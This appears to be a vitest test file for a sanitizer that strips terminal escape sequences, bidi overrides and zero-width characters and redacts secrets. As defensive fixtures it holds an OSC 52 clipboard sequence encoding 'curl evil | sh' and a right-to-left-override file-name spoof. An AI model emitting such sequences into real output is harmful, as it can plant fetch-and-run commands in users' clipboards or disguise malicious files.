import { describe, expect, it } from "vitest";
import { printable, stripControls } from "../../src/runs/controls.ts";

describe("stripControls", () => {
  it("removes whole escape sequences, payloads included, and keeps line breaks and tabs", () => {
    const clipboard = `\u001b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\u0007`;
    expect(stripControls(`a${clipboard}b`)).toBe("ab");
    expect(stripControls("title\u001b]0;pwned\u001b\\ok")).toBe("titleok"); // OSC ended by ST
    expect(stripControls("\u001b[2J\u001b[3J\u001b[H\u001b[1;31mred\u001b[0m")).toBe("red");
    expect(stripControls("c1\u009b2Jx\u009d0;t\u009cy")).toBe("c1xy"); // 8-bit CSI and OSC
    expect(stripControls("reset\u001bc done\u0008\u007f")).toBe("reset done");
    expect(stripControls("line 1\r\nline 2\tcol")).toBe("line 1\nline 2\tcol");
    expect(stripControls("cut \u001b]0;never ends")).toBe("cut ");
  });

  it("leaves text without control characters as it is, and is linear on a flood of openers", () => {
    const text = "plain ✓ text, 100% ordinary";
    expect(stripControls(text)).toBe(text);
    const flood = "\u001b]".repeat(1 << 19) + "\u001b[".repeat(1 << 19);
    expect(stripControls(flood)).toBe("");
  });

  it("removes what changes how text reads without being seen: bidi overrides and isolates, direction marks, zero-width space; keeps joiners", () => {
    // "README\u202etxt.exe" reads as README exe.txt; isolates and marks reorder as well.
    expect(stripControls("README\u202etxt.exe")).toBe("READMEtxt.exe");
    expect(stripControls("a\u2066b\u2067c\u2068d\u2069e\u202af\u202bg\u202ch\u202di\u200ej\u200fk\u200bl\u061cm")).toBe("abcdefghijklm");
    expect(stripControls("family 👨\u200d👩\u200d👧, نیم\u200cفاصله")).toBe("family 👨\u200d👩\u200d👧, نیم\u200cفاصله");
  });

  it("printable also redacts", () => {
    expect(printable("key q3Vn8Rz/Lt0Yb5Hk+Wp2Xs9Dm4Gc7Jf1Na6Ue0Tk\u001b[2J")).toBe("key [REDACTED]");
  });
});
